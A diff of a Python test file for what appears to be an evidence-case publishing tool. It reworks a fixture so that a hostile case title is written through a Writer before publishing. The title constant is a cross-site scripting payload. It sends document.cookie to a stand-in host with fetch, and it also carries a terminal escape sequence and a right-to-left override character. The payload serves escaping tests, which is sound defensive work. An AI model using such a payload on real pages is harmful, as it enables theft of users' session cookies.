@@ -6,8 +6,10 @@ from html.parser import HTMLParser
 
 import pytest
 
-from adversary import tampering
 from editions import ALL_SHOWN, publish
+from evidence_chain import kinds
+from evidence_db.case import Case
+from evidence_db.recording.writer import Writer
 
 TITLE = "</title><script>fetch('//evil.example/'+document.cookie)</script>\x1b]0;owned\x07\u202e"
 
@@ -35,8 +37,9 @@ def tags(page):
 
 @pytest.fixture
 def hostile(invented, tmp_path):
-    with tampering(invented) as db:
-        db.execute("UPDATE case_info SET title = ?", (TITLE,))
+    with Writer(Case(invented.root), "tester") as writer:
+        writer.add(kinds.CASE, {"title": TITLE})
+    invented.run("checkpoint")
     words = (*ALL_SHOWN, "--without-files", invented.ids["article"], "--reason", TITLE)
     return publish(invented, tmp_path / "out", words=words)
 
